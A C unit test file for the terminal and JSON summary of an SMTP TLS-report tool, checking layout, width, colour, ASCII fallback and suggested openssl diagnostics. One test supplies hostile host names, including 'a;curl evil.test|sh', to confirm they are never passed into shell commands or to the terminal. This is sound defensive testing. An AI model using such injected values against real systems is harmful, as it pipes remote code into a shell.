#include "scenes/overviews.h"

#include "output/display_width.h"
#include "output/terminal_text.h"
#include "summary/sparkline.h"
#include "summary/summary.h"
#include "summary/summary_json.h"

#include <json-c/json.h>
#include <locale.h>

/* 2026-11-24, 09:00 UTC: three hours after the last good poll. */
static int64_t
morning(void)
{
	return utc_of(2026, 11, 24, 9, 0, 0);
}

/* What the summary prints, in the arena. */
static char *
summary(struct made *m, const struct summary_style *style, bool ascii)
{
	char *text = NULL, *copy;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);

	assert_non_null(out);
	summary_print(out, told(m, ascii), style);
	assert_int_equal(fclose(out), 0);
	copy = arena_strndup(&m->mem, text, len);
	free(text);
	return copy;
}

static char *
plain(struct made *m)
{
	struct summary_style style = { .lines = 40, .now = morning() };

	return summary(m, &style, false);
}

static size_t
count_lines(const char *text)
{
	size_t n = 0;

	for (; *text != '\0'; text++)
		n += *text == '\n';
	return n;
}

/* No line wider than the screen; but a command cannot be cut. */
static void
assert_fits(const char *text)
{
	size_t n;

	for (; *text != '\0'; text += n + 1) {
		n = strcspn(text, "\n");
		if (width_text(text, n) > TEXT_WIDTH)
			fail_msg("too wide: %.*s", (int)n, text);
	}
}

static void
nothing_wrong_is_six_lines(void **state)
{
	struct made *m = *state;

	add_domain(m, "alder.example", 300);
	add_domain(m, "birch.example", 2000);
	assert_string_equal(plain(m),
	    "All 69,000 sessions with 2 domains used verified TLS.\n"
	    "TLS reports, 25 Oct to 23 Nov 2026 (30 days): 180 from 3 "
	    "organizations\n"
	    "69,000 sessions, 0 failed; 30 days before: 0 % of 69,000.\n"
	    "██████████████████████████████  sessions a day, at most 2,300\n"
	    "Fine: birch.example, alder.example\n"
	    "No report came with a warning, and none is in quarantine.\n");
}

static void
nothing_wrong_is_six_lines_however_much_there_is(void **state)
{
	struct made *m = *state;
	struct overview_problem *p;
	size_t i;

	for (i = 0; i < 300; i++)
		add_domain(
		    m, arena_printf(&m->mem, "number-%zu.example", i), 10 + i);
	p = add_problem(m, &m->domain[0], "certificate-expired", "ours", "");
	p->state = PROBLEM_CURED;
	m->warning[0] = (struct overview_warning){ "date-stale", 1234567 };
	m->o.n_warnings = 1;
	m->o.quarantined = 99999;
	m->o.conflicts = 88888;
	assert_int_equal(count_lines(plain(m)), 6);
	assert_fits(plain(m));
	assert_non_null(strstr(plain(m), " more\n"));
	assert_non_null(
	    strstr(plain(m), "1 cured problem; 99,999 in quarantine"));
}

static void
says_what_is_wrong_and_what_to_do(void **state)
{
	struct made *m = *state;
	struct overview_domain *d = add_trouble(m), *b;
	struct overview_problem *p;

	p = add_problem(m, d, "validation-failure", "unclear", "mx.host.test");
	p->organizations = 1;
	p->organization_names = "Mail.ru";
	p->reason = "no shared cipher";
	p->failed = 9;
	p->state = PROBLEM_OPEN;
	add_sender(m, "Google Inc.", d, 7);
	add_sender(m, "Mail.ru", d, 0);
	b = add_domain(m, "xn--mnchen-3ya.example", 90);
	b->shown = "münchen.example";
	b->policy_mode = "testing";
	add_domain(m, "birch.example", 2000);
	assert_string_equal(plain(m),
	    "98.3 % of 71,700 sessions with 3 domains used verified TLS; "
	    "worst:\n"
	    "alder.example, where 13.4 % failed. 1 cause to fix, 2 things to "
	    "watch, 1 step to\n"
	    "take.\n"
	    "TLS reports, 25 Oct to 23 Nov 2026 (30 days): 270 from 3 "
	    "organizations\n"
	    "71,700 sessions, 1,204 failed (1.7 %); 30 days before: 0 % of "
	    "71,700.\n"
	    "\n"
	    "To fix, on your side (tlsrua explain NUMBER says more)\n"
	    "  #1  mx2.alder.example: certificate expired, new since 17 Nov; "
	    "1,204 failed\n"
	    "      sessions, 3 of 3 reporters see it; 13.4 % of the domain's "
	    "sessions; renew\n"
	    "      the certificate and reload on mx2.alder.example, then "
	    "look:\n"
	    "      openssl s_client -starttls smtp -connect "
	    "mx2.alder.example:25 </dev/null \\\n"
	    "          | openssl x509 -noout -dates\n"
	    "\n"
	    "To watch\n"
	    "  #2  mx.host.test (for alder.example): validation failed, since "
	    "17 Nov; 9\n"
	    "      failed sessions, 1 of 3 reporters sees it, Mail.ru; 0.10 % "
	    "of the domain's\n"
	    "      sessions; either side; it says \"no shared cipher\"; read "
	    "the "
	    "sender's\n"
	    "      reason, and compare the TLS versions and ciphers of "
	    "mx.host.test, then\n"
	    "      look:\n"
	    "      openssl s_client -starttls smtp -connect mx.host.test:25 "
	    "-tls1_2 \\\n"
	    "          </dev/null\n"
	    "      Google Inc. no longer reports on alder.example: silent for "
	    "7 days, since\n"
	    "      16 Nov; before, at most 2 days without a report\n"
	    "\n"
	    "Steps you can take\n"
	    "      münchen.example: 30 days in testing without a failure: "
	    "ready for mode:\n"
	    "      enforce\n"
	    "\n"
	    "Domains, to fix first  failed a day                     sessions  "
	    "failed  before\n"
	    "  alder.example        ▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁▁███████      9,000  "
	    "13.4 %  0.04 %\n"
	    "\n"
	    "Fine: birch.example, münchen.example\n"
	    "No report came with a warning, and none is in quarantine.\n");
}

static void
without_utf8_it_is_ascii(void **state)
{
	struct made *m = *state;
	struct summary_style style = { .lines = 40, .now = morning() };
	struct overview_domain *d;
	const char *s;

	d = add_domain(m, "xn--mnchen-3ya.example", 300);
	d->shown = "münchen.example";
	add_failures(m, d, 3, 5);
	add_problem(m, d, "certificate-expired", "ours", "");
	s = summary(m, &style, true);
	assert_non_null(strstr(s, "xn--mnchen-3ya.example"));
	assert_non_null(strstr(s, "___________________________###"));
	for (; *s != '\0'; s++)
		assert_true((unsigned char)*s < 0x80);
}

static void
an_empty_store_says_how_to_fill_it(void **state)
{
	struct made *m = make(0);
	struct made *none = *state;

	assert_string_equal(plain(m),
	    "No report is stored yet: tlsrua poll fetches them from a mailbox, "
	    "tlsrua import\nPATH reads files.\n");
	made_free(m);
	none->o.quarantined = 3;
	assert_string_equal(plain(none),
	    "No report is stored for 25 Oct to 23 Nov 2026 (30 days).\n"
	    "3 in quarantine: tlsrua quarantine list.\n");
}

static void
a_single_day_and_nothing_but_failures_are_told(void **state)
{
	struct made *m = make(1);
	struct overview_domain *d = add_domain(m, "alder.example", 10);

	(void)state;
	d->sessions_before = m->o.sessions_before = 0;
	add_failures(m, d, 1, 10);
	add_problem(m, d, "sts-policy-fetch-error", "ours", "");
	assert_non_null(strstr(plain(m), "TLS reports, 23 Nov 2026: 3 from"));
	assert_non_null(strstr(plain(m),
	    "None of 10 sessions with alder.example was verified: all failed. "
	    "1 cause to fix.\n"));
	assert_non_null(strstr(plain(m),
	    "https://mta-sts.alder.example/.well-known/mta-sts.txt\n"));
	made_free(m);
}

static void
old_data_are_the_first_line(void **state)
{
	struct made *m = *state;
	struct summary_style style = { .lines = 40 };
	const int64_t hour = 3600;
	size_t i;

	static const struct {
		int64_t seconds;
		const char *first;
	} rows[] = {
		{ 36 * 3600, "All 9,000 sessions" },
		{ 36 * 3600 + 1, "The data are 36 hours old: the last good "
				 "poll was on 24 Nov 2026, 06:00 UTC.\n" },
		{ 72 * 3600, "The data are 3 days old: " },
		{ -9999, "All 9,000 sessions" },
	};

	add_domain(m, "alder.example", 300);
	for (i = 0; i < ROWS(rows); i++) {
		style.now = m->o.last_good_poll + rows[i].seconds;
		assert_memory_equal(summary(m, &style, false), rows[i].first,
		    strlen(rows[i].first));
	}
	/* where nothing is polled, the newest day tells */
	m->o.last_good_poll = 0;
	style.now = utc_of(2026, 11, 24, 0, 0, 0) + 72 * hour;
	assert_memory_equal(summary(m, &style, false), "All 9,000", 9);
	style.now++;
	assert_memory_equal(summary(m, &style, false),
	    "The data are 3 days old: no report is newer than 23 Nov 2026.\n",
	    61);
}

static void
fits_the_screen_whatever_there_is(void **state)
{
	static const size_t screens[] = { 0, 24, 25, 40, 60 };
	struct made *m = *state;
	struct overview_domain *d;
	struct summary_style style = { .now = morning() };
	const char *s;
	size_t i;

	for (i = 0; i < 60; i++) {
		d = add_domain(m,
		    arena_printf(&m->mem, "number-%zu.a-long-name.example", i),
		    100);
		add_failures(m, d, 20, 1 + i % 50);
		add_problem(m, d, "certificate-expired",
		    i % 3 > 0 ? "ours" : "theirs",
		    arena_printf(&m->mem, "mx.number-%zu.example", i));
		d->policies_differ = "Google Inc. sees testing";
		add_sender(m, "Google Inc.", d, i % 9);
	}
	m->warning[0] = (struct overview_warning){ "date-stale", 7 };
	m->o.n_warnings = 1;
	for (i = 0; i < ROWS(screens); i++) {
		style.lines = screens[i];
		s = summary(m, &style, false);
		if (count_lines(s) > (screens[i] > 24 ? screens[i] : 24))
			fail_msg("%zu lines for %zu:\n%s", count_lines(s),
			    screens[i], s);
		assert_fits(s);
		assert_non_null(strstr(s, "says more)\n  "));
		assert_non_null(strstr(s, "more: tlsrua summary -v"));
	}
	style.all = true;
	s = summary(m, &style, false);
	assert_non_null(strstr(s, " #59  mx.number-58"));
	assert_null(strstr(s, "more: tlsrua"));
}

/* What strangers name does what they like neither to terminal nor to shell. */
static void
hostile_names_stay_names(void **state)
{
	struct made *m = *state;
	struct overview_domain *d = add_domain(m, "alder.example", 300);
	struct overview_problem *p;
	char *long_name = arena_alloc(&m->mem, 2001);
	const char *s;

	memset(long_name, 'x', 2000);
	add_failures(m, d, 7, 90);
	p = add_problem(m, d, "certificate-expired", "ours",
	    "a;curl evil.test|sh\033[31m\n");
	p->organization_names = long_name;
	p->organizations = 1;
	add_problem(m, d, "certificate-expired", "ours", long_name);
	add_problem(m, d, "certificate-expired", "ours", "-oProxy=x");
	add_problem(m, d, long_name, "unclear", "\xe2\x80\x8egnp");
	d->policies_differ = long_name;
	s = plain(m);
	assert_null(strchr(s, '\033'));
	assert_fits(s);
	assert_null(strstr(s, "-connect a;curl"));
	assert_null(strstr(s, "-connect -o"));
	assert_non_null(strstr(s, "-connect MX:25"));
	assert_null(strstr(s, "\xe2\x80\x8e"));
}

static void
east_asian_names_take_two_columns(void **state)
{
	static const struct {
		const char *text;
		size_t columns;
	} rows[] = { { "", 0 }, { "abc", 3 }, { "例え.テスト", 11 },
		{ "한국", 4 }, { "u\xcc\x88", 1 }, { "ü", 1 }, { "\xff", 1 },
		{ "ｱ", 1 }, { "Ａ", 2 }, { "𠀀", 2 }, { "\xe2\x80\x8b", 0 },
		{ "▁█", 2 } };
	struct made *m = *state;
	struct overview_domain *d;
	size_t i;

	for (i = 0; i < ROWS(rows); i++)
		if (width_text(rows[i].text, strlen(rows[i].text)) !=
		    rows[i].columns)
			fail_msg("%s", rows[i].text);
	assert_int_equal(width_fitting("例え", 6, 3), 3);
	assert_int_equal(width_fitting("例え", 6, 4), 6);
	d = add_domain(m, "xn--r8jz45g.xn--zckzah", 300);
	d->shown = "例え.テスト";
	add_failures(m, d, 7, 1);
	add_problem(m, d, "certificate-expired", "ours", "");
	assert_non_null(strstr(plain(m), "  例え.テスト          ▁"));
}

static void
colour_adds_nothing_but_colour(void **state)
{
	struct made *m = *state;
	struct summary_style style = { .lines = 40, .now = morning() };
	char *bare, *coloured, *to, *from;

	add_trouble(m);
	add_domain(m, "birch.example", 20);
	bare = summary(m, &style, false);
	assert_null(strchr(bare, '\033'));
	style.colour = true;
	coloured = summary(m, &style, false);
	assert_non_null(strchr(coloured, '\033'));
	for (to = from = coloured; *from != '\0';)
		if (*from == '\033')
			from += strcspn(from, "m") + 1;
		else
			*to++ = *from++;
	*to = '\0';
	assert_string_equal(bare, coloured);
}

static void
sparklines_tell_nothing_from_none(void **state)
{
	static const struct overview_day days[] = { { 0, 0 }, { 9, 0 },
		{ 9, 1 }, { 90, 60 }, { 9, 9 } };
	struct made *m = *state;
	struct sparkline s = { days, 5, SPARKLINE_FAILED, 30, false };

	assert_string_equal(sparkline(&m->mem, &s), "·▁▂█▂");
	s.ascii = true;
	assert_string_equal(sparkline(&m->mem, &s), " _.#.");
	s.figure = SPARKLINE_SESSIONS;
	assert_string_equal(sparkline(&m->mem, &s), " ..#.");
	s.columns = 3;
	assert_string_equal(sparkline(&m->mem, &s), ".#.");
	assert_int_equal(sparkline_days(30, 30), 1);
	assert_int_equal(sparkline_days(31, 30), 2);
	s.n_days = 0;
	assert_string_equal(sparkline(&m->mem, &s), "");
}

static int64_t
number_of(struct json_object *o, const char *name)
{
	struct json_object *value;

	if (!json_object_object_get_ex(o, name, &value))
		fail_msg("no %s", name);
	return json_object_get_int64(value);
}

static void
json_has_the_same_figures(void **state)
{
	struct made *m = *state;
	struct summary_alarm alarm = { 1, 50 };
	struct json_object *o, *list, *item;
	char *text = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&text, &len);

	add_sender(m, "\"Quoted\" \\ Söhne\n", add_trouble(m), 8);
	add_domain(m, "birch.example", 2000);
	summary_print_json(out, told(m, false), &alarm);
	fclose(out);
	assert_int_equal(count_lines(text), 1);
	assert_non_null(o = json_tokener_parse(text));
	assert_int_equal(number_of(o, "sessions"), 69000);
	assert_int_equal(number_of(o, "failed"), 1204);
	assert_int_equal(number_of(o, "verified_domains"), 1);
	assert_true(json_object_object_get_ex(o, "problems", &list));
	item = json_object_array_get_idx(list, 0);
	assert_int_equal(number_of(item, "failed_sessions"), 1204);
	assert_int_equal(number_of(item, "problem"), 1);
	assert_true(json_object_object_get_ex(o, "domains", &list));
	assert_int_equal(json_object_array_length(list), 2);
	item = json_object_array_get_idx(list, 0);
	assert_int_equal(number_of(item, "over"), 1);
	item = json_object_array_get_idx(list, 1);
	assert_int_equal(number_of(item, "over"), 0);
	assert_true(json_object_object_get_ex(o, "silent", &list));
	assert_int_equal(json_object_array_length(list), 1);
	json_object_put(o);
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(nothing_wrong_is_six_lines),
		TEST(nothing_wrong_is_six_lines_however_much_there_is),
		TEST(says_what_is_wrong_and_what_to_do),
		TEST(without_utf8_it_is_ascii),
		TEST(an_empty_store_says_how_to_fill_it),
		TEST(a_single_day_and_nothing_but_failures_are_told),
		TEST(old_data_are_the_first_line),
		TEST(fits_the_screen_whatever_there_is),
		TEST(hostile_names_stay_names),
		TEST(east_asian_names_take_two_columns),
		TEST(colour_adds_nothing_but_colour),
		TEST(sparklines_tell_nothing_from_none),
		TEST(json_has_the_same_figures),
	};

	if (setlocale(LC_CTYPE, "C.UTF-8") == NULL) /* as the program does */
		return 1;
	return cmocka_run_group_tests_name("summary", tests, NULL, NULL);
}
